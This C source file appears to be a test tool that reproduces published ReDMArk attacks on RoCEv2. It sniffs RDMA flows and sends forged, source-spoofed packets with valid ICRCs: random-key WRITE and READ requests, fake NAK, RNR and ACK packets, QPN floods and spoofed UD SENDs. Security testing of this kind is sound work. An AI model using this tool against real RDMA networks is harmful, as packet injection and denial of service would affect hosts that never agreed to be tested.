// SPDX-License-Identifier: MIT
/*
 * roce_forge.c - a third host that forges RoCEv2 packets, for
 * tests/scripts/forge.sh (ReDMArk's attacks, USENIX Security'21): it knows
 * the victims' addresses and QPNs (it saw one packet of each flow) but not
 * their PSNs or keys, and sends packets with a spoofed source address and a
 * correct ICRC (src/proto/roce.c) from a raw socket.
 *
 *   roce_forge sniff IFACE SECONDS      print "SRC DST DQPN PSN" of the first
 *                                       RoCEv2 packet arriving on IFACE
 *   roce_forge KIND SRC DST DQPN COUNT [PSN]
 *                                       send COUNT forged packets to DQPN at
 *                                       DST, from SRC, at random PSNs (with
 *                                       PSN: none within 2^21 of it, so that
 *                                       every one is out of the window of a
 *                                       flow that was there)
 *
 * KIND: write (WRITE ONLY, random rkey and address), read (READ request,
 * random rkey), nak (NAK remote access error), rnr (RNR NAK, timer 31),
 * ack (ACK), flood (SEND ONLY to random QPNs; DQPN ignored), ud (valid UD
 * SENDs, Q_Key 0x11111111, "rxe-like N", each with a random IPv4 ID as
 * rxe gives them).
 * Prints what it sent; exits 1 on an error, 2 on bad usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "../../src/proto/roce.h"

static uint32_t rnd32(void)
{
	uint32_t v = 0;

	if (getrandom(&v, sizeof(v), 0) != sizeof(v))
		v = (uint32_t)rand();
	return v;
}

static int cmd_sniff(const char *ifname, int secs)
{
	int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	struct sockaddr_ll sll = { .sll_family = AF_PACKET,
				   .sll_protocol = htons(ETH_P_IP) };
	struct { uint32_t src, dst, qpn; } seen[8];
	int nseen = 0;
	time_t end = time(NULL) + secs;

	if (s < 0) {
		perror("socket");
		return 1;
	}
	sll.sll_ifindex = (int)if_nametoindex(ifname);
	if (!sll.sll_ifindex || bind(s, (struct sockaddr *)&sll, sizeof(sll))) {
		perror(ifname);
		return 1;
	}
	while (nseen < 1 && time(NULL) < end) {
		uint8_t b[2048];
		struct pollfd pf = { s, POLLIN, 0 };
		ssize_t n;
		const struct iphdr *ip = (const void *)b;
		const struct udphdr *uh;
		const uint8_t *bth;
		uint32_t qpn, psn;
		int dup = 0;

		if (poll(&pf, 1, 200) != 1)
			continue;
		struct sockaddr_ll from;
		socklen_t fl = sizeof(from);

		n = recvfrom(s, b, sizeof(b), 0, (struct sockaddr *)&from, &fl);
		if (n < 20 + 8 + 12 || from.sll_pkttype == PACKET_OUTGOING || ip->version != 4 || ip->protocol != IPPROTO_UDP)
			continue;
		uh = (const void *)(b + ip->ihl * 4);
		if (ntohs(uh->dest) != ROCE_UDP_PORT)
			continue;
		bth = (const uint8_t *)(uh + 1);
		qpn = (uint32_t)bth[5] << 16 | (uint32_t)bth[6] << 8 | bth[7];
		psn = (uint32_t)bth[9] << 16 | (uint32_t)bth[10] << 8 | bth[11];
		for (int i = 0; i < nseen; i++)
			dup |= seen[i].src == ip->saddr && seen[i].dst == ip->daddr;
		if (dup)
			continue;
		seen[nseen].src = ip->saddr;
		seen[nseen].dst = ip->daddr;
		seen[nseen].qpn = qpn;
		nseen++;
		{
			char a[INET_ADDRSTRLEN], d[INET_ADDRSTRLEN];

			inet_ntop(AF_INET, &ip->saddr, a, sizeof(a));
			inet_ntop(AF_INET, &ip->daddr, d, sizeof(d));
			printf("%s %s %06x %06x\n", a, d, qpn, psn);
			fflush(stdout);
		}
	}
	close(s);
	return nseen ? 0 : 1;
}

/* One forged packet: IPv4 + UDP + the transport packet p + ICRC. */
static int forge_one(int raw, struct in_addr src, struct in_addr dst,
		     const struct roce_pkt *p, const uint8_t *pay, uint32_t plen,
		     uint16_t ip_id)
{
	uint8_t buf[2048];
	struct iphdr *ip = (void *)buf;
	struct udphdr *uh = (void *)(buf + 20);
	uint8_t *ib = buf + 28;
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = dst };
	int n = roce_build(ib, sizeof(buf) - 28, p, pay, plen);

	if (n <= 0)
		return -1;
	memset(ip, 0, 20);
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons((uint16_t)(28 + n));
	ip->id = htons(ip_id);
	ip->frag_off = htons(IP_DF);
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = src.s_addr;
	ip->daddr = dst.s_addr;
	uh->source = htons((uint16_t)(0xc000 | (rnd32() & 0x3fff)));
	uh->dest = htons(ROCE_UDP_PORT);
	uh->len = htons((uint16_t)(8 + n));
	uh->check = 0;
	/* the kernel fills the IP checksum of a raw IPv4 packet; the ICRC
	 * masks it (and TTL, TOS, the UDP checksum) anyway */
	roce_icrc_put(ib + n - 4, roce_icrc(buf, 20, (uint8_t *)uh, ib, (size_t)n - 4));
	return sendto(raw, buf, (size_t)(28 + n), 0, (struct sockaddr *)&to,
		      sizeof(to)) == 28 + n ? 0 : -1;
}

int main(int argc, char **argv)
{
	struct in_addr src, dst;
	uint8_t pay[64] = { 0 };
	uint32_t dqpn, avoid;
	long count, sent = 0;
	int raw;

	if (argc == 4 && !strcmp(argv[1], "sniff"))
		return cmd_sniff(argv[2], atoi(argv[3]));
	if ((argc != 6 && argc != 7) || !inet_pton(AF_INET, argv[2], &src) ||
	    !inet_pton(AF_INET, argv[3], &dst)) {
		fprintf(stderr, "usage: roce_forge sniff IFACE SECONDS | KIND SRC DST DQPN COUNT [PSN]\n");
		return 2;
	}
	dqpn = (uint32_t)strtoul(argv[4], NULL, 16);
	avoid = argc == 7 ? (uint32_t)strtoul(argv[6], NULL, 16) : 0;
	count = atol(argv[5]);
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0) {
		perror("raw socket");
		return 1;
	}
	for (long i = 0; i < count; i++) {
		struct roce_pkt p = { 0 };
		uint32_t plen = 0;
		uint16_t ip_id = 0;

		p.pkey = ROCE_DEFAULT_PKEY;
		p.dqpn = dqpn;
		do
			p.psn = rnd32() & 0xffffff;
		while (argc == 7 &&
		       ((p.psn - avoid + (1u << 21)) & 0xffffff) < (1u << 22));
		if (!strcmp(argv[1], "write")) {
			p.opcode = ROCE_RC | OP_WRITE_ONLY;
			p.va = (uint64_t)rnd32() << 12;
			p.rkey = rnd32();
			p.dmalen = plen = sizeof(pay);
			p.ackreq = true;
		} else if (!strcmp(argv[1], "read")) {
			p.opcode = ROCE_RC | OP_READ_REQ;
			p.va = (uint64_t)rnd32() << 12;
			p.rkey = rnd32();
			p.dmalen = 4096;
			p.ackreq = true;
		} else if (!strcmp(argv[1], "nak")) {
			p.opcode = ROCE_RC | OP_ACK;
			p.syndrome = AETH_NAK_ACCESS;
		} else if (!strcmp(argv[1], "rnr")) {
			p.opcode = ROCE_RC | OP_ACK;
			p.syndrome = AETH_RNR | 31;
		} else if (!strcmp(argv[1], "ack")) {
			p.opcode = ROCE_RC | OP_ACK;
			p.syndrome = AETH_ACK | AETH_CREDIT_INVALID;
		} else if (!strcmp(argv[1], "ud")) {
			/* a UD SEND as rxe sends it: any IP ID (the ICRC
			 * covers it), Q_Key 0x11111111, numbered payload */
			p.opcode = ROCE_UD | OP_SEND_ONLY;
			p.qkey = 0x11111111;
			p.sqpn = 0x123456;
			snprintf((char *)pay, sizeof(pay), "rxe-like %ld", i);
			plen = sizeof(pay);
			ip_id = (uint16_t)rnd32();
		} else if (!strcmp(argv[1], "flood")) {
			p.opcode = ROCE_RC | OP_SEND_ONLY;
			p.dqpn = rnd32() & 0xffffff;
			plen = sizeof(pay);
		} else {
			fprintf(stderr, "roce_forge: unknown kind %s\n", argv[1]);
			return 2;
		}
		p.msn = rnd32() & 0xffffff;
		if (forge_one(raw, src, dst, &p, plen ? pay : NULL, plen, ip_id) == 0)
			sent++;
	}
	printf("%s: %ld of %ld sent\n", argv[1], sent, count);
	return sent == count ? 0 : 1;
}
